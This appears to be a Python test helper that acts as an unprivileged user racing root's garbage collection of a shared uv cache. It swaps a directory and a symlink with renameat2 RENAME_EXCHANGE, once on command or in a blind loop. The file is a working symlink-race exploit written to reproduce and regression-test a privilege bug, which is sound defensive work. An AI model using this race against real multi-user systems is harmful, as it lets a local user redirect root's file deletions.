"""An unprivileged user of a shared uv cache racing root's gc (run as that user by the tests).

Commands on stdin, one per line; one reply line each on stdout:
  open DIR HOME   open DIR (an entry the user owns, holding d/) and HOME (the user's own directory
                  holding `link`, a symlink) now; reply "ready".
  exchange        exchange DIR/d and HOME/link through the handles opened before (renameat2
                  RENAME_EXCHANGE), as the issue's attacker does once gc is deleting in d;
                  reply "swapped 1" or "swapped 0 <errno>".
  blind DIR HOME  open both now; reply "ready"; exchange in a loop, blindly, until "report".
  report        stop; reply "swapped N" (exchanges that succeeded since the last command).
  quit          exit.
"""
import ctypes
import os
import sys
import threading

libc = ctypes.CDLL(None, use_errno=True)
RENAME_EXCHANGE = 2


def exchange(fds):
    return libc.renameat2(fds[0], b"d", fds[1], b"link", RENAME_EXCHANGE) == 0


def open_both(argument):
    entry, home = argument.split(" ")
    return [os.open(path, os.O_RDONLY | os.O_DIRECTORY) for path in (entry, home)]


def reply(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()


def blind(argument):
    fds = open_both(argument)
    stop = threading.Event()
    count = [0]

    def loop():
        while not stop.is_set():
            count[0] += exchange(fds)

    thread = threading.Thread(target=loop)
    thread.start()
    reply("ready")
    while sys.stdin.readline().strip() != "report":
        pass
    stop.set()
    thread.join()
    for fd in fds:
        os.close(fd)
    reply("swapped %d" % count[0])


held = None
for line in sys.stdin:
    command, _, argument = line.strip().partition(" ")
    if command == "open":
        for fd in held or []:
            os.close(fd)
        held = open_both(argument)
        reply("ready")
    elif command == "exchange":
        reply("swapped 1" if exchange(held) else "swapped 0 %d" % ctypes.get_errno())
    elif command == "blind":
        blind(argument)
    elif command == "quit":
        break
